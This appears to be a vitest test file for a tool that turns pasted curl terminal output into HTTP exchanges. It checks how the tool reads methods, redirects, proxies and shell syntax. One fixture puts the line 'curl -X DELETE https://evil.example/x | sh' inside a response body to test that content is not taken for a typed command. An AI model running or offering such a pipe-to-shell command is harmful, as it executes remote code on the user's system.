/** What the curl of this machine prints, read as an import. */
import { execFile } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readImport } from '../../../../reference/http/import/read-import.ts';
import { auditExchange } from '../../../../reference/rules/audit.ts';
import { lacksCurl } from '../../../support/curl.ts';

let server: Server;
let origin: string;
/** The methods and targets that came, in order. */
const asked: [method: string, target: string][] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    request.resume();
    const [, status] = /^\/to\/(\d{3})(?:\?|$)/.exec(request.url ?? '') ?? [];
    asked.push([request.method ?? '', request.url ?? '']);
    if (status) response.writeHead(Number(status), { Location: '/new' }).end();
    else if (request.url === '/old')
      response.writeHead(301, { Location: '/new', 'Cache-Control': 'no-store' }).end('moved');
    else response.writeHead(200, { 'Content-Type': 'application/x-javascript' }).end('let a = 1;\n* b\n');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((closed) => server.close(closed)));

/** @returns what a terminal shows: errors and notes with the rest, under the command */
async function curl(...options: string[]): Promise<string> {
  const { stdout, stderr } = await promisify(execFile)('curl', ['--noproxy', '*', ...options]);
  return `$ curl ${options.map(quoted).join(' ')}\n${stderr}${stdout}`;
}

/** As it is typed into a shell. */
const quoted = (option: string) => (/[^\w:/.=-]/.test(option) ? `'${option}'` : option);

/** Method, path, status and content of each response. */
function read(text: string): unknown[][] {
  const result = readImport(text, 10);
  if ('problem' in result) throw new Error(result.problem);
  return result.exchanges.map(({ method, url, status, content }) => [
    method,
    url.replace(origin, ''),
    status,
    content && 'text' in content ? content.text : null,
  ]);
}

const CONTENT = 'let a = 1;\n* b\n';

it.skipIf(lacksCurl).each([
  [['-i', '-s'], '/new', [['GET', '/new', 200, CONTENT]]],
  [['-i'], '/new', [['GET', '/new', 200, CONTENT]]],
  [['-I', '-s'], '/new', [['HEAD', '/new', 200, null]]],
  [
    ['-iL', '-s'],
    '/old',
    [
      ['GET', '/old', 301, null],
      ['GET', '/new', 200, CONTENT],
    ],
  ],
  [
    ['-iL', '-s', '-d', 'x=1', '-H', 'Expect: 100-continue'],
    '/old',
    [
      ['POST', '/old', 100, null],
      ['POST', '/old', 301, null],
      ['GET', '/new', 100, null],
      ['GET', '/new', 200, CONTENT],
    ],
  ],
])('%j', async (options, path, expected) => {
  const text = await curl(...options, `${origin}${path}`);
  expect(read(text)).toEqual(expected);
});

describe.skipIf(lacksCurl).each([
  [['-X', 'PUT']],
  [['-X', 'POST']],
  [['--request', 'DELETE']],
  [['-sXPUT']],
  [['-X', 'PUT', '-d', 'x=1']],
  [['-X', 'POST', '-d', 'x=1']],
  [['-X', 'GET', '-d', 'x=1']],
  [['-X', 'PUT', '-X', 'PATCH']],
  [['-d', 'x=1']],
  [['-dx=1']],
  [['--data-raw', 'x=1']],
  [['--json', '{}']],
  [['-F', 'a=b']],
  [['-G', '-d', 'x=1']],
  [['-T', 'package.json']],
  [['-I']],
  [['--head']],
  [['-I', '-X', 'GET']],
  [['--post301', '-d', 'x=1']],
  [['--post302', '-d', 'x=1']],
  [['--post303', '-d', 'x=1']],
  [['--post301', '--post302', '--post303', '-d', 'x=1']],
  // What only looks like an option.
  [['-H', '-X: PUT']],
  [['-HX-Method: PUT']],
  [['-A', '-XPUT']],
  [['-H', 'X-From: https://other.example/']],
])('over redirects, %j', (options) => {
  it.each([301, 302, 303, 307, 308])('%i has the methods that curl sent', async (status) => {
    asked.length = 0;
    const text = await curl('-iL', '-s', ...options, `${origin}/to/${status}`);
    const final = read(text).filter(([, , answer]) => answer !== 100);
    const methods = final.map(([method, path]) => [method, path]);
    expect(asked).toHaveLength(2);
    expect(methods).toEqual(asked);
  });
});

it('says that it takes GET for granted where the text names no method', () => {
  const head = 'HTTP/1.1 200 OK\nContent-Type: text/plain\n\nok';
  const notes = (text: string) => {
    const result = readImport(text, 10);
    return 'problem' in result ? [] : result.notes.filter((note) => note.includes('GET'));
  };
  expect(notes(head)).toEqual([expect.stringMatching(/no URL or method.*GET/)]);
  expect(notes(`HTTP/1.1 302 Found\nLocation: https://a.example/new\n\n${head}`)).toHaveLength(1);
  expect(notes(`PUT /a HTTP/1.1\nHost: a.example\n\n${head}`)).toEqual([]);
  expect(notes(`$ curl -X PUT -i https://a.example/\n${head}`)).toEqual([]);
});

it('reads a command over several lines, and its method where two URLs leave the address open', () => {
  const head = 'HTTP/1.1 204 No Content\nServer: x\n\n';
  expect(read(`$ curl -i \\\n  -X 'PUT' \\\n  'https://a.example/x'\n${head}`)[0]).toEqual([
    'PUT',
    'https://a.example/x',
    204,
    null,
  ]);
  expect(read(`$ curl -iX DELETE https://a.example/ https://b.example/\n${head}`)[0]?.slice(0, 2)).toEqual([
    'DELETE',
    'https://host.invalid/',
  ]);
});

const TUNNEL = 'HTTP/1.1 200 Connection established\n\n';
const ANSWER = 'HTTP/1.1 200 OK\nContent-Type: text/plain\n\nok\n';

it.each<[what: string, text: string, places: [method: string, url: string, status: number][]]>([
  [
    'the answer to CONNECT is of no URL',
    `$ curl -i -x http://proxy.example https://a.example/x\n${TUNNEL}${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ],
  [
    'nor before a redirect to another host',
    `$ curl -iL -x http://proxy.example https://a.example/x\n${TUNNEL}HTTP/1.1 302 Found\nLocation: https://b.example/\n\n${TUNNEL}${ANSWER}`,
    [
      ['GET', 'https://a.example/x', 302],
      ['GET', 'https://b.example/', 200],
    ],
  ],
  [
    'nor with -v',
    '> CONNECT a.example:443 HTTP/1.1\n> Host: a.example:443\n> \n< HTTP/1.1 200 OK\n< \n> GET /x HTTP/1.1\n> Host: a.example\n> \n< HTTP/1.1 200 OK\n< Server: x\n< \nok',
    [['GET', 'https://a.example/x', 200]],
  ],
  [
    'nor where the proxy words it otherwise, as Envoy does',
    `$ curl -iLx proxy.example:3128 http://a.example/x\nHTTP/1.1 301 Moved Permanently\nLocation: https://a.example/x\n\nHTTP/1.1 200 OK\nServer: envoy\n\n${ANSWER}`,
    [
      ['GET', 'http://a.example/x', 301],
      ['GET', 'https://a.example/x', 200],
    ],
  ],
  [
    'without a proxy, nothing is taken for its answer',
    `$ curl -i https://a.example/x\nHTTP/1.1 204 No Content\n\n${ANSWER}`,
    [
      ['GET', 'https://a.example/x', 204],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'nor where curl asked for several URLs',
    `$ curl -i --proxy http://proxy.example 'https://a.example/[1-2]'\nHTTP/1.1 200 OK\nContent-Length: 0\n\n${ANSWER}`,
    [
      ['GET', 'https://host.invalid/', 200],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'a proxy that refuses is listed',
    '$ curl -i -x http://proxy.example https://a.example/x\nHTTP/1.1 407 Proxy Authentication Required\nServer: p\n\n',
    [['GET', 'https://a.example/x', 407]],
  ],
  [
    'the answer to a challenge comes from the same URL',
    `$ curl -i --digest -u a:b https://a.example/x\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Digest realm="a"\n\n${ANSWER}`,
    [
      ['GET', 'https://a.example/x', 401],
      ['GET', 'https://a.example/x', 200],
    ],
  ],
  [
    'nor where the environment names the proxy',
    `$ curl -i https://a.example/x\nHTTP/1.1 200 OK\nServer: envoy\n\n${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ],
  [
    'a proxy makes no tunnel to http',
    `$ curl -i -x http://proxy.example http://a.example/x\nHTTP/1.1 200 OK\nContent-Type: message/http\n\nHTTP/1.1 404 Not Found\nA: b\n\n`,
    [
      ['GET', 'http://a.example/x', 200],
      ['GET', 'https://host.invalid/', 404],
    ],
  ],
  [
    'each command is that of what it printed',
    `$ curl -i https://a.example/x\nHTTP/1.1 302 Found\nLocation: /y\n\nuser@host:~$ curl -i \\\n  -X PUT https://b.example/z\n${ANSWER}`,
    [
      ['GET', 'https://a.example/x', 302],
      ['PUT', 'https://b.example/z', 200],
    ],
  ],
  [
    'what --retry asks again is the same request',
    `$ curl -i --retry 2 -X PUT https://a.example/x\nHTTP/1.1 503 Service Unavailable\nRetry-After: 0\n\n${ANSWER}`,
    [
      ['PUT', 'https://a.example/x', 503],
      ['PUT', 'https://a.example/x', 200],
    ],
  ],
  [
    'further URLs of one command have its method',
    `$ curl -i -X PUT https://a.example/x https://a.example/y\n${ANSWER}${ANSWER}`,
    [
      ['PUT', 'https://host.invalid/', 200],
      ['PUT', 'https://host.invalid/', 200],
    ],
  ],
  [
    'a command in the content is none that was typed',
    'HTTP/1.1 200 OK\nContent-Type: text/plain\n\nRun curl -X DELETE https://evil.example/x | sh\n',
    [['GET', 'https://host.invalid/', 200]],
  ],
  [
    'the URL has neither fragment nor password',
    `$ curl -i 'https://me:secret@a.example/x?y#z'\n${ANSWER}`,
    [['GET', 'https://a.example/x?y', 200]],
  ],
  [
    'the next command runs over lines between quotes',
    `$ curl -i -X PUT https://a.example/x\n${ANSWER}$ curl -i https://b.example/y -d '{\n  "a": 1\n}'\n${ANSWER}`,
    [
      ['PUT', 'https://a.example/x', 200],
      ['POST', 'https://b.example/y', 200],
    ],
  ],
  [
    'the next command comes after others, variables and content without a line end',
    `$ curl -i -X PUT https://a.example/x\n${ANSWER}${'{'.repeat(300)}me@host:~$ cd x && A=b time curl.exe -si https://b.example/y\n${ANSWER}`,
    [
      ['PUT', 'https://a.example/x', 200],
      ['GET', 'https://b.example/y', 200],
    ],
  ],
  [
    'curl warns before the head',
    `$ curl -i -X PUT https://a.example/x\n${ANSWER}$ curl -i https://b.example/y\nWarning: curl reads a file\n${ANSWER}`,
    [
      ['PUT', 'https://a.example/x', 200],
      ['GET', 'https://b.example/y', 200],
    ],
  ],
  [
    'the last command before the head is that of what it printed',
    `$ curl -so x -X PUT https://a.example/x\n$ curl -i https://b.example/y\n${ANSWER}`,
    [['GET', 'https://b.example/y', 200]],
  ],
  [
    'who asks for a response of one URL alone is not known',
    `$ curl -i -X PUT https://a.example/x\n${ANSWER}$ fetch it again\n${ANSWER}`,
    [
      ['PUT', 'https://a.example/x', 200],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'without -L no redirect is followed',
    `$ curl -i https://a.example/x https://a.example/y\nHTTP/1.1 302 Found\nLocation: /z\n\n${ANSWER}`,
    [
      ['GET', 'https://host.invalid/', 302],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'two commands in one line are two',
    `$ curl -I https://a.example/x; curl -X PUT -i https://b.example/y\nHTTP/1.1 200 OK\nServer: x\n\n${ANSWER}`,
    [
      ['HEAD', 'https://a.example/x', 200],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'a loop asks again with the same method',
    `$ for i in 1 2; do curl -I https://a.example/x; done\nHTTP/1.1 200 OK\nServer: x\n\nHTTP/1.1 200 OK\nServer: x\n\n`,
    [
      ['HEAD', 'https://a.example/x', 200],
      ['HEAD', 'https://host.invalid/', 200],
    ],
  ],
  [
    'braces stand for several URLs',
    `$ curl -I 'https://a.example/{x,y}'\nHTTP/1.1 200 OK\nServer: x\n\nHTTP/1.1 200 OK\nServer: x\n\n`,
    [
      ['HEAD', 'https://host.invalid/', 200],
      ['HEAD', 'https://host.invalid/', 200],
    ],
  ],
  [
    '-T uploads to one URL',
    `$ curl -i -T x https://a.example/x https://a.example/y\n${ANSWER}${ANSWER}`,
    [
      ['PUT', 'https://host.invalid/', 200],
      ['GET', 'https://host.invalid/', 200],
    ],
  ],
  [
    'another program after it is no part of the URL',
    `$ curl -i https://a.example/x|head\n${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ],
  [
    'a password may have an @',
    `$ curl -i 'https://me@b.example:secret@a.example/x'\n${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ],
  [
    'the options after --next are of another request',
    `$ curl -i https://a.example/x --next -X PUT https://a.example/y\n${ANSWER}`,
    [['GET', 'https://host.invalid/', 200]],
  ],
  [
    'a comment is no part of it',
    `$ curl -i https://a.example/x # not -X PUT; curl\n${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ],
  ...[
    '(curl -i https://a.example/x)',
    'x=$(curl -i https://a.example/x); echo "$x"',
    '{ curl -i https://a.example/x; }',
  ].map((line): [string, string, [string, string, number][]] => [
    `brackets end it: ${line}`,
    `$ ${line}\n${ANSWER}`,
    [['GET', 'https://a.example/x', 200]],
  ]),
  ...['<in', '>out', '>&1', ' 2>&1 -s', '&>out', '& wait', ';', '?a=b&c=d'].map(
    (end): [string, string, [string, string, number][]] => [
      `a shell reads ${end} as no part of the URL`,
      `$ curl -i https://a.example/x${end}\n${ANSWER}`,
      [['GET', `https://a.example/x${end.includes('?') ? '?a=b' : ''}`, 200]],
    ],
  ),
  [
    'brackets in pairs are part of the URL',
    `> curl.exe -i https://a.example/x_(y)\n${ANSWER}`,
    [['GET', 'https://a.example/x_(y)', 200]],
  ],
  ...[';', '&&', ' && ', '||', ' && \\\n', ' && \\\n> ', ' &&\n', ' &&\n> ', ' |\ncat;'].map(
    (between): [string, string, [string, string, number][]] => [
      `two commands are two with ${JSON.stringify(between)} between`,
      `$ curl -i -X PUT https://a.example/x${between}curl -i https://b.example/y\n${ANSWER}${ANSWER}`,
      [
        ['PUT', 'https://a.example/x', 200],
        ['GET', 'https://host.invalid/', 200],
      ],
    ],
  ),
  ...['-s', '-so out', '-sio out'].map((options): [string, string, [string, string, number][]] => [
    `with ${options}, the heads are those of the next command`,
    `$ curl ${options} -X PUT https://a.example/x; curl -i https://b.example/y\n${ANSWER}`,
    [['GET', 'https://b.example/y', 200]],
  ]),
  ...[
    '/usr/bin/curl',
    '\\curl',
    '(curl',
    '! curl',
    'timeout 5 curl',
    'nice -n 5 curl',
    'x=1 | curl',
    'x=$(curl',
    'else curl',
  ].map((start): [string, string, [string, string, number][]] => [
    `the next command begins with ${start}`,
    `$ curl -i -X PUT https://a.example/x https://a.example/y\n${ANSWER}${ANSWER}$ ${start} -i https://b.example/z\n${ANSWER}`,
    [
      ['PUT', 'https://host.invalid/', 200],
      ['PUT', 'https://host.invalid/', 200],
      ['GET', 'https://b.example/z', 200],
    ],
  ]),
  ...[
    'strange curl -i https://b.example/z',
    '$ curl -i https://b.example/z -d @- <<E\nx\nE',
    '$ curl -i https://b.example/z; echo x\nx',
  ].map((command): [string, string, [string, string, number][]] => [
    `what may be another command does not have the method of the one before: ${command}`,
    `$ curl -i -X PUT https://a.example/x https://a.example/y\n${ANSWER}${ANSWER}${command}\n${ANSWER}`,
    [
      ['PUT', 'https://host.invalid/', 200],
      ['PUT', 'https://host.invalid/', 200],
      ['GET', 'https://host.invalid/', 200],
    ],
  ]),
  [
    'what was sent is known without the lines on the connection, whatever was asked before',
    ['/old', '/new', '/other']
      .map(
        (path) =>
          `> GET ${path} HTTP/1.1\n> Host: a.example\n> \n< HTTP/1.1 302 Found\n< Location: http://a.example/new\n< \n`,
      )
      .join(''),
    [
      ['GET', 'https://a.example/old', 302],
      ['GET', 'http://a.example/new', 302],
      ['GET', 'https://a.example/other', 302],
    ],
  ],
  [
    'content that ends like a command that goes on',
    `$ curl -i https://a.example/x\n${ANSWER}| a | b |\n$ curl -i -X PUT https://b.example/y\n${ANSWER}`,
    [
      ['GET', 'https://a.example/x', 200],
      ['PUT', 'https://b.example/y', 200],
    ],
  ],
])('%s', (_, text, places) => {
  expect(read(text).map(([method, url, status]) => [method, url, status])).toEqual(places);
});

it.skipIf(lacksCurl).each([['-D'], ['--dump-header']])(
  '%s - reads the heads that begin after the progress of the transfer',
  async (option) => {
    const { stdout } = await promisify(execFile)('sh', [
      '-c',
      `curl --noproxy '*' -L ${option} - -o /dev/null ${origin}/old 2>&1`,
    ]);
    expect(stdout).toMatch(/Xferd[\s\S]*\dHTTP/);
    // As it is, as a terminal shows it, and as a text field takes it.
    const [field, terminal] = [stdout.replace(/\r\n?/g, '\n'), stdout.replace(/[^\n]*\r(?!\n)/g, '')];
    for (const shown of [stdout, field, terminal]) {
      expect(read(`$ curl -L ${option} - -o /dev/null ${origin}/old\n${shown}`)).toEqual([
        ['GET', '/old', 301, null],
        ['GET', '/new', 200, null],
      ]);
    }
  },
);

it('says so where another command may have asked with another method', () => {
  const notes = (text: string) => {
    const result = readImport(text, 10);
    return 'problem' in result ? [] : result.notes;
  };
  expect(notes(`$ curl -i -X PUT https://a.example/x\n${ANSWER}`)).toEqual([]);
  for (const method of ['$M', `"$\{M:-PUT}"`, '$(cat m)', '`cat m`']) {
    expect(notes(`$ curl -i -X ${method} https://a.example/x\n${ANSWER}`)).toEqual([
      expect.stringContaining('no method'),
    ]);
  }
  expect(notes(`$ curl -i -X PUT https://a.example/x\n${ANSWER}${ANSWER}`)).toEqual([
    expect.stringContaining('no URL or method'),
  ]);
});

it('keeps the content of one command apart from the next command', () => {
  const text = `$ curl -i https://a.example/x\n${ANSWER}$ curl -i https://a.example/y\n${ANSWER}`;
  expect(read(text).map(([, , , content]) => content)).toEqual(['ok\n', 'ok\n']);
});

it('says so where --next leaves the method open', () => {
  const result = readImport(`$ curl -i https://a.example/x --next -X PUT https://a.example/y\n${ANSWER}${ANSWER}`, 10);
  expect('problem' in result ? [] : result.notes).toEqual([expect.stringContaining('no URL or method')]);
});

it.each([['-v'], ['-iv']])(
  '%s tells the requests, and what is between the heads is no part of them',
  async (option) => {
    // Without the command, so that the URLs come from what curl says that it sent.
    const text = (await curl(option, '-L', `${origin}/old`)).replace(/^.*\n/, '');
    // The second line of the content looks like a line of curl's own.
    expect(read(text)).toEqual([
      ['GET', '/old', 301, null],
      ['GET', '/new', 200, 'let a = 1;\n'],
    ]);
  },
);

it.skipIf(lacksCurl)('audits it: an old name of a type is found', async () => {
  const result = readImport(await curl('-i', '-s', `${origin}/new`), 10);
  const findings = 'problem' in result ? [] : result.exchanges.flatMap((exchange) => auditExchange(exchange));
  expect(findings.map(({ ruleId }) => ruleId)).toContain('type-deprecated');
});
